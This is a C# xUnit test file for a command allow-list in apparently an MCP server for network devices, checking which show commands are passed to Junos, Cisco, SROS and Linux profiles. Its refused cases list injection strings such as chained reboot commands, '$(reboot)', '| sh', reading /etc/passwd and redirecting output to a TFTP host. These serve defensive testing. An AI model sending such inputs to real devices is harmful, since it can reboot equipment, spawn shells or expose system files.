using NetMcp.Devices.Commands;
using NetMcp.Devices.Profiles;
using Xunit;

namespace NetMcp.Devices.Tests.Commands;

/// <summary>Which command lines are sent.</summary>
public sealed class CommandCheckTests
{
    [Theory]
    [InlineData("junos", "show version", "show version")]
    [InlineData("junos", "  show   interfaces ge-0/0/0.100  terse ", "show interfaces ge-0/0/0.100 terse")]
    [InlineData("junos", "show route 10.0.0.0/8 exact|match BGP | no-more", "show route 10.0.0.0/8 exact | match BGP | no-more")]
    [InlineData("junos", "show chassis alarms", "show chassis alarms")]
    [InlineData("ios-xr", "show bgp ipv4 unicast summary", "show bgp ipv4 unicast summary")]
    [InlineData("ios-xr", "show configuration commit list 10", "show configuration commit list 10")]
    [InlineData("ios-xe", "show ip interface brief | include up", "show ip interface brief | include up")]
    [InlineData("ios-xe", "show mac address-table", "show mac address-table")]
    [InlineData("sros", "show router bgp summary", "show router bgp summary")]
    [InlineData("netconfd", "ip -br link show dev eth0", "ip -br link show dev eth0")]
    public void FindObjection_ListedCommand_HasNone(string profile, string command, string line)
    {
        Assert.Null(CommandCheck.FindObjection(DeviceProfiles.Find(profile)!, command, out var sent));
        Assert.Equal(line, sent);
    }

    [Theory]
    [InlineData("junos", "")]
    [InlineData("junos", "show")]
    [InlineData("junos", "request system reboot")]
    [InlineData("junos", "show configuration")]
    [InlineData("junos", "show interfaces extra words a b c d")]
    [InlineData("junos", "show version | save /tmp/x")]
    [InlineData("junos", "show version | match a | save x")]
    [InlineData("junos", "show version |")]
    [InlineData("junos", "| no-more")]
    [InlineData("junos", "file show /etc/passwd")]
    [InlineData("junos", "show route /etc/passwd")]
    [InlineData("junos", "show version; request system reboot")]
    [InlineData("junos", "show version\nrequest system reboot")]
    [InlineData("junos", "show version\r")]
    [InlineData("junos", "show\tversion")]
    [InlineData("junos", "show version\0")]
    [InlineData("junos", "show version\u001b[2J")]
    [InlineData("junos", "show version > x")]
    [InlineData("junos", "show version ＆")]
    [InlineData("ios-xr", "show running-config")]
    [InlineData("ios-xr", "show version | file disk0:x")]
    [InlineData("ios-xe", "show version | redirect tftp://192.0.2.1/x")]
    [InlineData("ios-xe", "SHOW VERSION")]
    [InlineData("ios-xe", "show ip route vrf `reload`")]
    [InlineData("netconfd", "ip link set lo down")]
    [InlineData("netconfd", "ip link show dev eth0 up && reboot")]
    [InlineData("netconfd", "ip addr show dev $(reboot)")]
    [InlineData("netconfd", "uptime | sh")]
    [InlineData("netconfd", "uname -a")]
    [InlineData("netconfd", "/bin/sh")]
    [InlineData("generic", "show version")]
    public void FindObjection_AnythingElse_IsRefused(string profile, string command) =>
        Assert.NotNull(CommandCheck.FindObjection(DeviceProfiles.Find(profile)!, command, out _));

    [Fact]
    public void FindObjection_Refused_SaysWhatThereIs()
    {
        Assert.Contains("show chassis alarms|environment", CommandCheck.FindObjection(JunosProfile.Profile, "show weather", out _), StringComparison.Ordinal);
        Assert.Contains("match WORD", CommandCheck.FindObjection(JunosProfile.Profile, "show version | save x", out _), StringComparison.Ordinal);
        Assert.Contains("512", CommandCheck.FindObjection(JunosProfile.Profile, "show version" + new string(' ', 600), out _), StringComparison.Ordinal);
    }
}
